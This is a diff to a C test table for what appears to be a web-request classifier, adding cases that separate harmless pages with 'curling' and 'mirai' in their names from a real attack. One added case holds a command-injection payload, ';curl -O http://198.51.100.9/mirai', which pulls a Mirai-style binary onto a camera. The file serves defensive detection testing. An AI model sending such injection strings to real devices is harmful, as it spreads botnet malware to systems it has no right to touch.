@@ -92,6 +92,9 @@ static const struct web_case cases[] = {
     {PC, "GET", "198.51.100.99", "/downloads/readme.txt", UA, 0},
     {PC, "GET", "198.51.100.99", "/mirai.html", UA, 0}, /* "mirai" (future) in a page name */
     {PC, "GET", "www.example.jp", "/sora/tsunami-hakai.html?dl=curl", UA, 0},
+    /* "curl" inside a word (curling) is no downloader; mirai is a Japanese word */
+    {PC, "GET", "www.example.jp", "/sports/curling/mirai-no-hoshi.html", UA, 0},
+    {OUT, "GET", "cam.example", "/cgi?x=;curl%20-O%20http://198.51.100.9/mirai", UA, 5},
     /* 6 proxy probe */
     {OUT, "GET", "www.example.com", "http://www.example.com/", UA, 6},
     {PC, "GET", "192.168.1.80", "http://user:pw@proxy-judge.example/", UA, 6},
